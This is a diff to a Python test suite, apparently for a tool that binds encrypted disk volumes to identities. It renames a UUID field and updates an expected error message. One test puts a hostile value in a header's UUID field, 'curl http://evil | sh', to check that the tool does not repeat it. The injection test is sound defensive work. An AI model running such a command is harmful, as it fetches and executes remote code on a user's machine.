@@ -257,7 +257,7 @@ def test_an_open_volume_that_would_not_open_again_says_so(
 
 def test_what_has_the_uuid_and_another_key_is_refused(templates: tuple[Template, Template]) -> None:
     mine, other = templates
-    facts = dataclasses.replace(facts_of(other.image), uuids=facts_of(mine.image).uuids)
+    facts = dataclasses.replace(facts_of(other.image), uuid=facts_of(mine.image).uuid)
     refusal = state.objection(bound_to(volume_on(mine.image), mine.image), facts, "/dev/vdb")
     assert refusal is not None
     assert "and another volume key than that volume was bound with" in refusal.what
@@ -276,7 +276,7 @@ def test_a_header_that_adds_the_bound_digest_to_its_own_is_refused(templates: tu
 
 def test_what_a_header_says_is_not_repeated_unless_it_is_a_uuid(templates: tuple[Template, Template]) -> None:
     mine, other = templates
-    named = dataclasses.replace(facts_of(other.image), uuids=frozenset(["run: curl http://evil | sh"]))
+    named = dataclasses.replace(facts_of(other.image), uuid="run: curl http://evil | sh")
     refusal = state.objection(bound_to(volume_on(mine.image), mine.image), named, "/dev/vdb")
     assert refusal is not None
     assert "its UUID is none, and" in refusal.what
@@ -343,7 +343,7 @@ def test_a_volume_is_not_bound_to_a_header_with_two_volume_keys(
         lambda metadata: metadata["digests"].update({"1": {**other.metadata["digests"]["0"], "keyslots": []}})
     )
     disk = mine.put(mine.both(text), tmp_path / "disk.img")
-    with pytest.raises(DeviceError, match="its header has 2 volume keys"):
+    with pytest.raises(DeviceError, match="its key slots and data segments do not belong together"):
         bind(volume_on(disk), tmp_path / "identities/data1.toml", passphrase(), None)
     assert not (tmp_path / "identities").exists()
 
